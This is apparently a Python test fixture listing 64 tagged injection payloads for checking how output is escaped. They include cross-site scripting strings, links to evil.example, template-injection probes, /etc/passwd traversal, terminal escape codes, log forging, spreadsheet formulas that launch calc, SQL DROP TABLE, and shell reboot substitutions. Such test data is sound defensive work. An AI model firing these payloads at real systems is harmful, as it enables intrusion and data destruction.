"""Texts that some reader would obey: browsers, templates, terminals, spreadsheets, logs, databases."""

from __future__ import annotations

MARK = "T4"
"""Each text says its number behind this, so that a test can tell that it was shown at all."""

_TEXTS = (
    # HTML that makes elements
    "<script>alert(#)</script>",
    "</script><script>alert(#)</script>",
    "<img src=x onerror=alert(#)>",
    "<svg onload=alert(#)>",
    "<svg><script>alert(#)</script></svg>",
    "<iframe src='javascript:alert(#)'></iframe>",
    "<body onload=alert(#)>",
    "<details open ontoggle=alert(#)>",
    "<input autofocus onfocus=alert(#)>",
    "<a href='javascript:alert(#)'>x</a>",
    "<form action='//evil.example/#'><button>x</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(#)>",
    "<template><img src=x onerror=alert(#)></template>",
    "</title><script>alert(#)</script>",
    "</textarea><script>alert(#)</script>",
    "--><script>alert(#)</script><!--",
    "<![CDATA[<script>alert(#)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(#)>'>",
    # out of an attribute
    '" onmouseover=alert(#) x="',
    "' autofocus onfocus=alert(#) x='",
    '"><img src=x onerror=alert(#)>',
    "'><img src=x onerror=alert(#)>",
    "` onmouseover=alert(#) ",
    "x onclick=alert(#)",
    '" hx-get="//evil.example/" hx-trigger="load" x="',
    '" data-hx-on:load="alert(#)" x="',
    '" style="background:url(//evil.example/)" x="',
    # already escaped once
    "&lt;script&gt;alert(#)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(#)&#62;",
    "\\u003cimg src=x onerror=alert(#)\\u003e",
    "%3Cimg%20src=x%20onerror=alert(#)%3E",
    # script and JSON
    '";alert(#);//',
    "';alert(#);//",
    "`;alert(#);`${alert(#)}`",
    '\\";alert(#);//',
    '{"__proto__":{"x":"alert(#)"}}',
    "\u2028alert(#)\u2029",
    # templates
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(#)}",
    "#{7*7}<%= 7*7 %>",
    # addresses and style
    "javascript:alert(#)",
    "data:text/html,<script>alert(#)</script>",
    "//evil.example/",
    "../../../../etc/passwd",
    "}body{background:url(//evil.example/)",
    # characters that turn text around, hide it, or end it
    "\u202egnp.exe\u202c\u2066\u2069",
    "\u200b\u200f\ufeff\u00ad",
    "\U000e0041\ue000\u0378",
    "a\0b",
    "e\u0301" * 40,
    # terminals and logs
    "\x1b[2J\x1b[31mred\x1b]0;owned\x07",
    "\x9b31m\x90q\x9d8;;http://evil.example\x9c",
    "\r\nfake: line\n2026-01-01 ERROR owned",
    "[bold red]x[/] %n%s {0} {mac}",
    # spreadsheets, shells, databases
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "'; DROP TABLE nodes; --",
    "$(reboot) `reboot` | reboot ; reboot",
    "x" * 3000,
)
_LONG = 40
PAYLOADS = tuple(
    (f"{text}{MARK}{number:02}" if len(text) < _LONG else f"{MARK}{number:02}{text}").replace(
        "#", str(number)
    )
    for number, text in enumerate(_TEXTS)
)
"""The number stands behind the text, or it would be no formula and no address any more; before a long one,
whose end may be cut off."""
assert len(PAYLOADS) == len(set(PAYLOADS)) == 64

BROKEN = b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf5"
"""No UTF-8: it goes before every other text where bytes are sent."""
OBEYED = frozenset("\x1b\x07\x00\x08\x7f\x9b\x9d\x90\r\u202a\u202e\u2066\u2067\u2028\u2029\u200f\ufeff")
"""Characters that a terminal obeys, or that turn or hide text."""
